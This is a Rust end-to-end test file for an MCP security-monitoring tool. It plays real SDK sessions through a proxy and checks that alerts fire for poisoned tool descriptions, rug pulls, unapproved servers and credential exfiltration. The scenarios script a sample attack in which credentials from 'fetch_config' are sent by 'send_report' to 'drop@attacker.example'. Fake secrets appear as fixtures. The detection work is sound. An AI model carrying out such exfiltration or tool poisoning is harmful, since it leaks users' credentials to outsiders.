//! The rule pack on real MCP traffic: a client and a server on the official TypeScript SDK
//! (tests/mcp/scenario-*.mjs), speaking the 2025 revision (`initialize`) and the 2026-07-28
//! one (`server/discover`, no session, the server named only in results' `_meta`), through
//! `mcpsiem collect proxy --stdio` run as different users, into Kafka; the events read back
//! go through the detector's engine with the shipped pack.
//!
//! Each failure class of real traffic has its assertion here: stdio alerts of two users or
//! two servers are two alerts (no session, token or address to tell them apart), stateless
//! sessions name their server, a rug pull is seen on the 2026-07-28 revision and alerts when
//! its event arrives (not when the watermark passes it), credentials returned by a tool of
//! any name and then sent out by another raise the exfiltration chain (a correlation, here
//! on the 2026-07-28 revision), and a database password in a tool result never reaches Kafka.

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use mcpsiem_detect::rules::{self, NamedLists};
use mcpsiem_detect::{Engine, EngineConfig};
use mcpsiem_event::{Alert, OwnedEvent};
use serde_json::Value;

use crate::support;

const HIDDEN_TAGS: &str = "3f6f0c1e-2a57-4d0c-9b0e-6b1f4c1a0101";
const RUG_PULL: &str = "3f6f0c1e-2a57-4d0c-9b0e-6b1f4c1a0106";
const UNAPPROVED_SERVER: &str = "3f6f0c1e-2a57-4d0c-9b0e-6b1f4c1a0401";
const SECRET_THEN_SINK: &str = "3f6f0c1e-2a57-4d0c-9b0e-6b1f4c1a0303";
const SECRET_READ: &str = "3f6f0c1e-2a57-4d0c-9b0e-6b1f4c1a0301";
const MODERN: &str = "2026-07-28";

/// One client run: who runs it, which revision it speaks, which server it starts (by name
/// and tool variant) and what it does.
struct Session {
    user: &'static str,
    revision: &'static str,
    server: &'static str,
    variant: &'static str,
    actions: Value,
}

fn list() -> Value {
    serde_json::json!([{"list": true}])
}

fn mcp_script(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/mcp").join(name).display().to_string()
}

fn play(config: &std::path::Path, session: &Session) {
    let output = Command::new("node")
        .arg(mcp_script("scenario-client.mjs"))
        .arg(session.revision)
        .arg(session.actions.to_string())
        .arg("--")
        .arg(env!("CARGO_BIN_EXE_mcpsiem"))
        .arg("--config")
        .arg(config)
        .args(["collect", "proxy", "--stdio", "--", "node"])
        .arg(mcp_script("scenario-server.mjs"))
        .env("USER", session.user)
        .env("MCP_SERVER_NAME", session.server)
        .env("MCP_TOOL_VARIANT", session.variant)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("the scenario client runs");
    assert!(
        output.status.success(),
        "{} ({}) on {}: {}",
        session.user,
        session.revision,
        session.server,
        String::from_utf8_lossy(&output.stderr)
    );
}

/// One session of the official Python SDK's client and server (tests/mcp/python), through
/// the stdio proxy run as `session.user`.
fn play_python(config: &std::path::Path, session: &Session) {
    let python = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/mcp/python");
    let sdk = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(".tools/python-mcp");
    let mode = if session.revision == MODERN { MODERN } else { "legacy" };
    let output = Command::new("python3")
        .arg(python.join("scenario_client.py"))
        .arg(mode)
        .arg(session.actions.to_string())
        .arg("--")
        .arg(env!("CARGO_BIN_EXE_mcpsiem"))
        .arg("--config")
        .arg(config)
        .args(["collect", "proxy", "--stdio", "--", "python3"])
        .arg(python.join("scenario_server.py"))
        .env("PYTHONPATH", &sdk)
        .env("USER", session.user)
        .env("MCP_SERVER_NAME", session.server)
        .env("MCP_TOOL_VARIANT", session.variant)
        .output()
        .expect("the Python scenario client runs");
    assert!(
        output.status.success(),
        "{} ({}) on {}: {}; run scripts/setup to install the MCP Python SDK into .tools/python-mcp",
        session.user,
        session.revision,
        session.server,
        String::from_utf8_lossy(&output.stderr)
    );
}

fn rule_pack() -> rules::RuleSet {
    let approved = ["scenario-server", "docs-modern", "py-scenario-server"];
    let lists: NamedLists = [("approved_servers".to_string(), approved.map(String::from).to_vec())].into();
    let report = rules::load(&[PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("rules")], &lists);
    assert_eq!(report.skipped(), 0, "rules skipped: {:#?}", report.problems);
    report.rules
}

fn groups_of<'a>(alerts: &'a [Alert], rule: &str) -> Vec<&'a BTreeMap<String, String>> {
    alerts.iter().filter(|a| a.rule_id == rule).map(|a| &a.group).collect()
}

#[test]
fn real_clients_and_servers_of_both_revisions_raise_their_alerts() {
    let broker = support::TestBroker::start();
    let kafka = broker.kafka_config("real-traffic");
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(support::create_topic(&kafka, &kafka.events_topic, 3));
    let spool = tempfile::tempdir().unwrap();
    let fixture = support::LakeFixture::new(
        &kafka,
        &format!("[collect]\nid = \"real-traffic\"\nspool_dir = \"{}\"\n", spool.path().display()),
    );

    let exfiltrate = serde_json::json!([
        {"list": true},
        {"call": "fetch_config", "arguments": {"service": "billing"}},
        {"call": "send_report", "arguments": {"to": "drop@attacker.example", "body": "config attached"}}
    ]);
    let fetch = serde_json::json!([{"call": "fetch_config", "arguments": {"service": "ledger"}}]);
    let lookup = serde_json::json!([{"list": true}, {"call": "lookup_docs", "arguments": {"topic": "deploys"}}]);
    let sessions = [
        // Ordinary work on an approved server, raising nothing.
        Session { user: "erin", revision: "legacy", server: "scenario-server", variant: "clean", actions: lookup },
        // The exfiltration chain (a correlation) over the 2026-07-28 revision.
        Session { user: "alice", revision: MODERN, server: "scenario-server", variant: "clean", actions: exfiltrate },
        // The tool changes under the same server (a rug pull) and two users list it.
        Session { user: "bob", revision: "legacy", server: "scenario-server", variant: "poisoned", actions: list() },
        Session { user: "alice", revision: "legacy", server: "scenario-server", variant: "poisoned", actions: list() },
        // The same over the 2026-07-28 revision, whose server is named only in `_meta`.
        Session { user: "dave", revision: MODERN, server: "docs-modern", variant: "clean", actions: list() },
        Session { user: "dave", revision: MODERN, server: "docs-modern", variant: "poisoned", actions: list() },
        // Three shadow servers used by one user, one of them stateless.
        Session { user: "carol", revision: "legacy", server: "weather-helper", variant: "clean", actions: list() },
        Session { user: "carol", revision: "legacy", server: "team-x-db", variant: "clean", actions: fetch.clone() },
        Session { user: "carol", revision: MODERN, server: "ghost-mcp", variant: "clean", actions: fetch },
    ];
    // Each session ends before the next starts: the times between them split the events.
    let mut ends = Vec::new();
    for session in &sessions {
        play(&fixture.config_path, session);
        ends.push(mcpsiem_event::Timestamp::now());
    }

    // initialize + initialized (2025) or server/discover (2026-07-28), each request, and a
    // tool definition per listed tool (three).
    let expected = 7 + 7 + 6 + 6 + 5 + 5 + 6 + 3 + 2;
    let records = support::read_topic_json(
        &kafka,
        &kafka.events_topic,
        expected,
        Duration::from_secs(3),
        Duration::from_secs(60),
    );
    assert_eq!(records.len(), expected, "events: {records:#?}");
    let text = serde_json::to_string(&records).unwrap();
    for secret in ["Pg-s3cret-55", "AKIAZ7Q3EXAMPLE4KEY1"] {
        assert!(!text.contains(secret), "{secret} reached Kafka");
    }
    assert!(text.contains("postgres://app:[REDACTED]@db.internal:5432/prod"), "the URL without its password is kept");

    let mut events = support::parse_events(&records);
    events.sort_by_key(|e| (e.time, e.id));
    record_stdio_sessions(&records, &ends);

    // Every event names its server, whatever the revision.
    let unnamed: Vec<_> = events.iter().filter(|e| e.server_name.is_none()).map(|e| e.method.clone()).collect();
    assert!(unnamed.is_empty(), "events without mcp.server.name: {unnamed:?}");
    let modern_servers: BTreeSet<&str> = events
        .iter()
        .filter(|e| e.protocol_version.as_deref() == Some(MODERN))
        .filter_map(|e| e.server_name.as_deref())
        .collect();
    assert_eq!(modern_servers, BTreeSet::from(["docs-modern", "ghost-mcp", "scenario-server"]));
    assert!(
        events.iter().filter(|e| e.server_name.as_deref() == Some("docs-modern")).all(|e| e.session_id.is_none()),
        "the 2026-07-28 revision has no session"
    );

    let mut engine = Engine::new(rule_pack(), EngineConfig::default());
    let mut live = Vec::new();
    for event in &events {
        live.extend(engine.process(event));
    }
    let at_the_end = engine.finish();

    // Class 1: one alert per user listing the poisoned tool, whatever came first.
    let poisoned_for: BTreeSet<&str> =
        groups_of(&live, HIDDEN_TAGS).iter().filter_map(|g| g.get("enduser.id").map(String::as_str)).collect();
    assert_eq!(poisoned_for, BTreeSet::from(["alice", "bob", "dave"]), "{:#?}", groups_of(&live, HIDDEN_TAGS));
    // ... and one per shadow server, the stateless one included (class 2).
    let shadow: BTreeSet<&str> = groups_of(&live, UNAPPROVED_SERVER)
        .iter()
        .filter_map(|g| g.get("mcp.server.name").map(String::as_str))
        .collect();
    assert_eq!(shadow, BTreeSet::from(["ghost-mcp", "team-x-db", "weather-helper"]));

    // Classes 2 and 5: the rug pull on both revisions, raised by the event itself.
    let rug_pulls: BTreeSet<&str> =
        groups_of(&live, RUG_PULL).iter().filter_map(|g| g.get("mcp.server.name").map(String::as_str)).collect();
    assert_eq!(rug_pulls, BTreeSet::from(["docs-modern", "scenario-server"]));
    assert!(
        at_the_end.iter().all(|a| a.rule_id != RUG_PULL),
        "first-seen alerts must not wait for the watermark: {at_the_end:#?}"
    );

    // Class 3: credentials returned by `fetch_config` (recognised by content) and sent out by
    // `send_report` (a recipient in its arguments, an open-world tool): the chain fires for
    // the user who did it, and only for her (carol fetched too, and sent nothing).
    let fetched: Vec<_> = events
        .iter()
        .filter(|e| e.method.as_deref() == Some("tools/call") && e.tool_name.as_deref() == Some("fetch_config"))
        .map(|e| e.attributes.get("mcp.secrets.in_result").map(|kinds| kinds.get()))
        .collect();
    assert_eq!(fetched, [Some(r#"["aws_access_key","credential","url_password"]"#); 3]);
    let chained: Vec<&str> = live
        .iter()
        .chain(&at_the_end)
        .filter(|a| a.rule_id == SECRET_THEN_SINK)
        .filter_map(|a| a.group.get("enduser.id").map(String::as_str))
        .collect();
    assert_eq!(chained, ["alice"]);
}

/// The recorded events of session `index` (the order of `sessions` above), as shipped.
fn session_records(records: &[Value], ends: &[mcpsiem_event::Timestamp], index: usize) -> Vec<Value> {
    let time = |r: &Value| mcpsiem_event::Timestamp::parse(r["event.time"].as_str().expect("a time")).expect("a time");
    let mut out: Vec<Value> = records
        .iter()
        .filter(|r| time(r) <= ends[index] && (index == 0 || time(r) > ends[index - 1]))
        .cloned()
        .collect();
    out.sort_by_key(|r| (time(r), r["event.id"].as_str().map(str::to_owned)));
    out
}

/// A recorded case made of whole sessions (by their index in play order).
fn sessions_case(
    records: &[Value],
    ends: &[mcpsiem_event::Timestamp],
    name: &str,
    rule: Option<&'static str>,
    expect: &'static str,
    sessions: &[usize],
) -> support::recorded::RecordedCase {
    support::recorded::RecordedCase {
        name: name.to_owned(),
        rule,
        expect,
        events: sessions.iter().flat_map(|&i| session_records(records, ends, i)).collect(),
    }
}

/// The stdio sessions as rule-test fixtures: `rules/captured/stdio_typescript_sdk.tests.yml`.
fn record_stdio_sessions(records: &[Value], ends: &[mcpsiem_event::Timestamp]) {
    let case =
        |name: &str, rule, expect, sessions: &[usize]| sessions_case(records, ends, name, rule, expect, sessions);
    let cases = [
        case("2025 revision: listing and calling an approved server's tools", None, "no_alert", &[0]),
        case("2026-07-28 revision: listing an approved server's tools", None, "no_alert", &[4]),
        case(
            "2026-07-28 revision: credentials from fetch_config sent out by send_report",
            Some(SECRET_THEN_SINK),
            "match",
            &[1],
        ),
        case("2025 revision: a tool description hiding instructions", Some(HIDDEN_TAGS), "match", &[2]),
        case("2026-07-28 revision: the same tool listed clean, then changed", Some(RUG_PULL), "match", &[4, 5]),
        case("2026-07-28 revision: a tool listed once is no rug pull", Some(RUG_PULL), "no_match", &[4]),
        case("2025 revision: an unapproved server", Some(UNAPPROVED_SERVER), "match", &[6]),
        case("2026-07-28 revision: an unapproved server named only in _meta", Some(UNAPPROVED_SERVER), "match", &[8]),
        case("2026-07-28 revision: an approved server", Some(UNAPPROVED_SERVER), "no_match", &[1]),
    ];
    let lists = [("approved_servers", vec!["scenario-server", "docs-modern"])].into();
    support::recorded::record_or_check(
        "stdio_typescript_sdk.tests.yml",
        "Real MCP sessions: the official TypeScript SDK 2.3 client and server (tests/mcp/scenario-*.mjs)\n\
         through `mcpsiem collect proxy --stdio`, both protocol revisions, as the collector shipped them\n\
         to Kafka. Recorded by tests/e2e/detect/real_traffic.rs\n\
         (real_clients_and_servers_of_both_revisions_raise_their_alerts).",
        &lists,
        &cases,
    );
}

/// The same server over Streamable HTTP behind `collect proxy --http`: a 2026-07-28 client
/// (no session, every exchange on its own) and a 2025 client (a session from `initialize`)
/// both leave events that name the server, and the shadow-server rule sees both.
#[test]
fn http_clients_of_both_revisions_through_the_proxy_name_their_server() {
    let broker = support::TestBroker::start();
    let kafka = broker.kafka_config("real-traffic-http");
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(support::create_topic(&kafka, &kafka.events_topic, 3));
    let fixture = support::LakeFixture::new(
        &kafka,
        "[site]\ntoken_key = \"real-traffic-site-key\"\n[collect]\nid = \"real-traffic-http\"\nspool_dir = \"spool\"\n",
    );
    let server_port = support::free_port();
    let mut server = support::KillOnDrop(
        Command::new("node")
            .arg(mcp_script("scenario-server.mjs"))
            .env("MCP_HTTP_PORT", server_port.to_string())
            .env("MCP_SERVER_NAME", "http-shadow")
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .spawn()
            .unwrap(),
    );
    support::wait_for_port(server_port, &mut server.0);
    let upstream = format!("http://127.0.0.1:{server_port}/mcp");
    let (mut command, proxy_port) = support::http_proxy_command(&fixture, &upstream, &[]);
    let mut proxy = support::KillOnDrop(command.spawn().unwrap());
    support::wait_for_port(proxy_port, &mut proxy.0);

    let actions = r#"[{"list":true},{"call":"fetch_config","arguments":{"service":"billing"}}]"#;
    for revision in [MODERN, "legacy"] {
        let output = Command::new("node")
            .arg(mcp_script("scenario-client.mjs"))
            .args([revision, actions, "--url", &format!("http://127.0.0.1:{proxy_port}/mcp")])
            .output()
            .unwrap();
        assert!(output.status.success(), "{revision}: {}", String::from_utf8_lossy(&output.stderr));
    }
    support::stop_with_sigterm(&mut proxy.0, "the proxy");

    // 2026-07-28: server/discover, tools/list and its 3 tools, the call; 2025: initialize,
    // initialized, tools/list and its 3 tools, the call.
    let records =
        support::read_topic_json(&kafka, &kafka.events_topic, 13, Duration::from_secs(3), Duration::from_secs(60));
    record_http_sessions(&records);
    let mut events = support::parse_events(&records);
    events.retain(|e| e.kind != mcpsiem_event::EventKind::Http);
    assert!(events.len() >= 13, "{records:#?}");
    let unnamed: Vec<_> = events.iter().filter(|e| e.server_name.as_deref() != Some("http-shadow")).collect();
    assert!(unnamed.is_empty(), "events without the server's name: {unnamed:#?}");
    let modern: Vec<&OwnedEvent> = events.iter().filter(|e| e.protocol_version.as_deref() == Some(MODERN)).collect();
    assert!(modern.len() >= 5 && modern.iter().all(|e| e.session_id.is_none()), "{modern:#?}");

    // Both revisions' calls match the shadow-server rule (one client address, one server:
    // their alerts are one group, so suppression leaves one alert; the verdicts are per event).
    let engine = Engine::new(rule_pack(), EngineConfig::default());
    for revision in [MODERN, "2025-11-25"] {
        let call = events
            .iter()
            .find(|e| e.protocol_version.as_deref() == Some(revision) && e.method.as_deref() == Some("tools/call"))
            .unwrap_or_else(|| panic!("a {revision} tool call"));
        let verdicts = engine.detection_verdicts(call);
        assert!(verdicts.iter().any(|rule| rule == UNAPPROVED_SERVER), "{revision}: {verdicts:?}");
    }
}

/// The HTTP sessions as rule-test fixtures: `rules/captured/http_typescript_sdk.tests.yml`.
fn record_http_sessions(records: &[Value]) {
    use support::recorded::RecordedCase;
    let of_revision = |revision: &str| -> Vec<Value> {
        let mut out: Vec<Value> =
            records.iter().filter(|r| r["mcp.protocol.version"].as_str() == Some(revision)).cloned().collect();
        out.sort_by_key(|r| (r["event.time"].as_str().map(str::to_owned), r["event.id"].as_str().map(str::to_owned)));
        out
    };
    let case = |name: &str, rule: &'static str, revision: &str| RecordedCase {
        name: name.to_owned(),
        rule: Some(rule),
        expect: "match",
        events: of_revision(revision),
    };
    let cases = [
        case("2026-07-28 revision over HTTP: an unapproved server", UNAPPROVED_SERVER, MODERN),
        case("2025 revision over HTTP: an unapproved server", UNAPPROVED_SERVER, "2025-11-25"),
        case("2026-07-28 revision over HTTP: credentials in a tool result", SECRET_READ, MODERN),
        case("2025 revision over HTTP: credentials in a tool result", SECRET_READ, "2025-11-25"),
    ];
    support::recorded::record_or_check(
        "http_typescript_sdk.tests.yml",
        "Real MCP sessions: the official TypeScript SDK 2.3 client and server (tests/mcp/scenario-*.mjs)\n\
         over Streamable HTTP through `mcpsiem collect proxy --http`, both protocol revisions, as the\n\
         collector shipped them to Kafka. Recorded by tests/e2e/detect/real_traffic.rs\n\
         (http_clients_of_both_revisions_through_the_proxy_name_their_server).",
        &std::collections::BTreeMap::new(),
        &cases,
    );
}

/// The same attacks from a second implementation: the official Python SDK's client and
/// server (mcp 2.3) through `collect proxy --stdio`, both revisions. Each attack raises its
/// alert for the right user and server, the benign session raises nothing, every event names
/// its server, and no secret reaches Kafka.
#[test]
fn python_sdk_sessions_of_both_revisions_raise_their_alerts() {
    let broker = support::TestBroker::start();
    let kafka = broker.kafka_config("real-traffic-python");
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(support::create_topic(&kafka, &kafka.events_topic, 3));
    let spool = tempfile::tempdir().unwrap();
    let fixture = support::LakeFixture::new(
        &kafka,
        &format!("[collect]\nid = \"real-traffic-python\"\nspool_dir = \"{}\"\n", spool.path().display()),
    );
    let lookup = serde_json::json!([{"list": true}, {"call": "lookup_docs", "arguments": {"topic": "deploys"}}]);
    let exfiltrate = serde_json::json!([
        {"list": true},
        {"call": "fetch_config", "arguments": {"service": "billing"}},
        {"call": "send_report", "arguments": {"to": "drop@attacker.example", "body": "config attached"}}
    ]);
    let fetch = serde_json::json!([{"call": "fetch_config", "arguments": {"service": "ledger"}}]);
    let server = "py-scenario-server";
    let sessions = [
        Session { user: "erin", revision: "legacy", server, variant: "clean", actions: lookup.clone() },
        Session { user: "frank", revision: MODERN, server, variant: "clean", actions: lookup },
        Session { user: "frank", revision: MODERN, server, variant: "poisoned", actions: list() },
        Session { user: "alice", revision: "legacy", server, variant: "clean", actions: exfiltrate },
        Session { user: "carol", revision: MODERN, server: "py-ghost", variant: "clean", actions: fetch },
    ];
    let mut ends = Vec::new();
    for session in &sessions {
        play_python(&fixture.config_path, session);
        ends.push(mcpsiem_event::Timestamp::now());
    }

    // 2025: initialize, initialized, then the requests; 2026-07-28: the requests alone (the
    // client adopts the revision without a probe). Each listing adds one event per tool (3);
    // a client that calls a tool it has not listed lists the tools after the call (carol).
    let expected = (3 + 3 + 1) + (2 + 3) + (1 + 3) + (3 + 3 + 2) + (1 + 1 + 3);
    let records = support::read_topic_json(
        &kafka,
        &kafka.events_topic,
        expected,
        Duration::from_secs(3),
        Duration::from_secs(60),
    );
    assert_eq!(records.len(), expected, "events: {records:#?}");
    let text = serde_json::to_string(&records).unwrap();
    for secret in ["Pg-s3cret-55", "AKIAZ7Q3EXAMPLE4KEY1"] {
        assert!(!text.contains(secret), "{secret} reached Kafka");
    }
    let mut events = support::parse_events(&records);
    events.sort_by_key(|e| (e.time, e.id));
    let unnamed: Vec<_> = events.iter().filter(|e| e.server_name.is_none()).map(|e| e.method.clone()).collect();
    assert!(unnamed.is_empty(), "events without mcp.server.name: {unnamed:?}");
    assert!(events.iter().any(|e| e.protocol_version.as_deref() == Some(MODERN)), "a 2026-07-28 session");

    let mut engine = Engine::new(rule_pack(), EngineConfig::default());
    let mut alerts = Vec::new();
    for event in &events {
        alerts.extend(engine.process(event));
    }
    alerts.extend(engine.finish());
    let who = |rule: &str, key: &str| -> BTreeSet<String> {
        groups_of(&alerts, rule).iter().filter_map(|g| g.get(key).cloned()).collect()
    };
    assert_eq!(who(HIDDEN_TAGS, "enduser.id"), BTreeSet::from(["frank".to_string()]));
    assert_eq!(who(RUG_PULL, "mcp.server.name"), BTreeSet::from([server.to_string()]));
    assert_eq!(who(SECRET_THEN_SINK, "enduser.id"), BTreeSet::from(["alice".to_string()]));
    assert_eq!(who(UNAPPROVED_SERVER, "mcp.server.name"), BTreeSet::from(["py-ghost".to_string()]));
    let erin: Vec<&Alert> =
        alerts.iter().filter(|a| a.group.get("enduser.id").map(String::as_str) == Some("erin")).collect();
    assert!(erin.is_empty(), "the benign session alerted: {erin:#?}");

    let case =
        |name: &str, rule, expect, sessions: &[usize]| sessions_case(&records, &ends, name, rule, expect, sessions);
    let cases = [
        case("2025 revision: listing and calling an approved server's tools", None, "no_alert", &[0]),
        case("2026-07-28 revision: listing and calling an approved server's tools", None, "no_alert", &[1]),
        case("2026-07-28 revision: a tool description hiding instructions", Some(HIDDEN_TAGS), "match", &[2]),
        case("2026-07-28 revision: the same tool listed clean, then changed", Some(RUG_PULL), "match", &[1, 2]),
        case(
            "2025 revision: credentials from fetch_config sent out by send_report",
            Some(SECRET_THEN_SINK),
            "match",
            &[3],
        ),
        case("2026-07-28 revision: an unapproved server", Some(UNAPPROVED_SERVER), "match", &[4]),
        case("2025 revision: an approved server", Some(UNAPPROVED_SERVER), "no_match", &[3]),
    ];
    let lists = [("approved_servers", vec![server])].into();
    support::recorded::record_or_check(
        "stdio_python_sdk.tests.yml",
        "Real MCP sessions: the official Python SDK 2.3 client and server (tests/mcp/python)\n\
         through `mcpsiem collect proxy --stdio`, both protocol revisions, as the collector shipped them\n\
         to Kafka. Recorded by tests/e2e/detect/real_traffic.rs\n\
         (python_sdk_sessions_of_both_revisions_raise_their_alerts).",
        &lists,
        &cases,
    );
}
